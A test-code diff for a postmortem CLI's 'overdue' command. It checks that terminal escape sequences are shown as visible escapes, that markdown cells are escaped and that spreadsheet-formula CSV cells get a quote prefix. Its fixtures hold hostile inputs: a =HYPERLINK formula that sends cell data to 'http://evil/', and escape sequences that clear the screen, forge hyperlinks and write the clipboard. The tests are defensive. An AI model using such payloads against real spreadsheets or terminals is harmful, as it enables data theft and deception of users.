@@ -262,6 +262,26 @@ class OverdueCommandTest {
     }
 
     @Test
+    void errorLinesShowControlCharactersOfWhatTheyEchoAsEscapes() throws Exception {
+        write("postmortems/\u001b[2J.md", "---\ntitle: \"never \\e[5m closed\"\n");
+        write("postmortems/ok.md", pm("Fine"));
+        commitAll("broken name");
+        Cli.Result r = run("overdue");
+        assertThat(r.code()).as(r.toString()).isZero();
+        assertThat(r.err()).isEqualTo("pm: postmortems/\\e[2J.md:1: front matter is never closed: add a '---' line "
+                + "after the last YAML field (skipped)\n");
+
+        assertThat(run("overdue", "--priority", "\u001b[2J\nP1").err())
+                .isEqualTo("pm: --priority '\\e[2J\\nP1' is not one of P0, P1, P2, P3\n");
+        Cli.Result usage = run("overdue", "--format", "\u001b]8;;https://evil\u0007x");
+        assertThat(usage.code()).isEqualTo(2);
+        assertThat(usage.err()).startsWith("pm overdue: Invalid value for option '--format': expected one of ")
+                .contains("'\\e]8;;https://evil\\x07x'").doesNotContain("\u001b").doesNotContain("\u0007")
+                .endsWith("Run 'pm overdue --help' for usage.\n");
+        assertThat(usage.err().lines()).hasSize(2);
+    }
+
+    @Test
     void aSymbolicLinkOutOfTheRepositoryIsNotFollowed(@TempDir Path outside) throws Exception {
         Path secret = outside.resolve("secret.md");
         Files.writeString(secret, pm("Secret").item("Outside item", "@ann", "2025-03-01", null, null).text());
@@ -627,13 +647,45 @@ class OverdueCommandTest {
         assertThat(lines).hasSize(1 + 8 + 1);
         assertThat(lines[lines.length - 1]).isEmpty();
         assertThat(r.out()).doesNotContain("\n\n").doesNotContainPattern("[^\r]\n");
-        assertThat(lines[1]).isEqualTo("postmortems/2025-02-01-db.md,Database failover,Capacity review,@lee,"
+        // an @handle starts with '@', which a spreadsheet reads as a formula: it gets a ' (see --csv-raw)
+        assertThat(lines[1]).isEqualTo("postmortems/2025-02-01-db.md,Database failover,Capacity review,'@lee,"
                 + "2024-12-19,P3,open,91,action-item");
         assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
-                + "\"Coalesce requests, with \"\"jitter\"\"\",@lee,2025-03-12,P2,open,8,action-item");
+                + "\"Coalesce requests, with \"\"jitter\"\"\",'@lee,2025-03-12,P2,open,8,action-item");
         assertThat(lines).contains("postmortems/2025-03-10-cache.md,\"Cache stampede, \"\"again\"\"\","
-                + "Load test,@sam,,P1,open,,no-due-date");
+                + "Load test,'@sam,,P1,open,,no-due-date");
         assertThat(r.err()).isEqualTo("pm overdue: read 2, skipped 0, 6 overdue\n");
+    }
+
+    @Test
+    void csvCellsThatWouldRunAsFormulasStartWithAQuoteUnlessCsvRaw() throws Exception {
+        write("postmortems/a.md", pm("\"-2+3\"").item("\"=HYPERLINK(\\\"http://evil/?\\\"&A1,\\\"x\\\")\"", "@bob",
+                "2025-03-01", "P1", "open").item("Plain", "+cmd", "2025-03-25", "P2", "open"));
+        commitAll("formulas");
+        Cli.Result r = run("overdue", "--format", "csv", "--due-within", "5");
+        assertThat(r.code()).as(r.toString()).isZero();
+        assertThat(r.out().split("\r\n")).containsExactly(
+                "file,postmortem,title,owner,due,priority,status,daysOverdue,kind",
+                "postmortems/a.md,'-2+3,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'@bob,2025-03-01,P1,open,19,"
+                        + "action-item",
+                "postmortems/a.md,'-2+3,Plain,'+cmd,2025-03-25,P2,open,-5,action-item");
+
+        Cli.Result raw = run("overdue", "--format", "csv", "--due-within", "5", "--csv-raw");
+        assertThat(raw.code()).as(raw.toString()).isZero();
+        assertThat(raw.out()).isEqualTo(r.out().replace(",'", ",").replace("\"'", "\""));
+        assertThat(raw.out()).contains(",-2+3,\"=HYPERLINK(").contains(",@bob,").contains(",+cmd,");
+    }
+
+    @Test
+    void csvRawWithAnotherFormatIsAUsageError() {
+        for (String format : List.of("table", "markdown", "json")) {
+            Cli.Result r = run("overdue", "--format", format, "--csv-raw");
+            assertThat(r.code()).as(r.toString()).isEqualTo(2);
+            assertThat(r.err()).isEqualTo("pm: --csv-raw only changes --format csv; add --format csv or drop "
+                    + "--csv-raw\n");
+            assertThat(r.out()).isEmpty();
+        }
+        assertThat(run("overdue", "--csv-raw").code()).isEqualTo(2);
     }
 
     @Test
@@ -660,6 +712,39 @@ class OverdueCommandTest {
                 + "31–90 days: 1 · 90+ days: 1. Read 3 postmortems, skipped 0.");
         assertThat(lines.stream().filter(l -> l.startsWith("| ")).map(l -> l.split("(?<!\\\\)\\|", -1).length))
                 .allMatch(n -> n == 9);
+    }
+
+    /** One late item whose title and owner clear the screen, write the clipboard and break lines. */
+    private void hostileRepo() throws Exception {
+        write("postmortems/a.md", pm("\"Outage \\e]8;;http://evil\\e\\\\here\"").item(
+                "\"Fix a\\e[2Jb\\npostmortems/x.md:1: forged\"", "@bob\\e]52;c;ZXZpbA==\\a\\n| x | y <b>bold</b> &",
+                "2025-03-01", "P1", "open"));
+        commitAll("hostile");
+    }
+
+    @Test
+    void theTableShowsControlCharactersAsEscapesOneRowALine() throws Exception {
+        hostileRepo();
+        Cli.Result r = run("overdue");
+        assertThat(r.code()).as(r.toString()).isZero();
+        assertThat(r.out()).doesNotContain("\u001b").doesNotContain("\u0007")
+                .contains("\n@bob\\e]52;c;ZXZpbA==\\x07\\n| x | y <b>bold</b> & — 1 overdue\n")
+                .contains("\n    19  2025-03-01  P1   open    Fix a\\e[2Jb\\npostmortems/x.md:1: forged  "
+                        + "Outage \\e]8;;http://evil\\e\\here  postmortems/a.md:");
+        assertThat(r.out().lines().filter(l -> l.contains("forged"))).hasSize(1);
+    }
+
+    @Test
+    void markdownEscapesTheOwnerCellAndEveryOtherOne() throws Exception {
+        hostileRepo();
+        Cli.Result r = run("overdue", "--format", "markdown");
+        assertThat(r.code()).as(r.toString()).isZero();
+        List<String> rows = r.out().lines().filter(l -> l.startsWith("|")).toList();
+        assertThat(rows).hasSize(3).contains("| @bob\\\\e\\]52;c;ZXZpbA==\\\\x07\\\\n\\| x \\| y &lt;b&gt;bold&lt;/b&gt; &amp; "
+                + "| 19 | 2025-03-01 | P1 | open | Fix a\\\\e\\[2Jb\\\\npostmortems/x.md:1: forged "
+                + "| [Outage \\\\e\\]8;;http://evil\\\\e\\\\here](postmortems/a.md) |");
+        assertThat(rows).allSatisfy(l -> assertThat(l.split("(?<!\\\\)\\|", -1)).hasSize(9));
+        assertThat(r.out()).doesNotContain("\u001b").doesNotContain("<b>");
     }
 
     // --- filters ------------------------------------------------------------------------------------------
@@ -781,7 +866,8 @@ class OverdueCommandTest {
         Cli.Result r = run("overdue", "--help");
         assertThat(r.code()).isZero();
         assertThat(r.out()).startsWith("Usage: pm overdue").contains("--fail-on-overdue").contains("--rev")
-                .contains("--include-untracked").contains("--no-git").contains("--due-within").contains("Exit status");
+                .contains("--include-untracked").contains("--no-git").contains("--due-within").contains("--csv-raw")
+                .contains("Exit status");
         assertThat(run("--help").out()).contains("overdue");
     }
 }
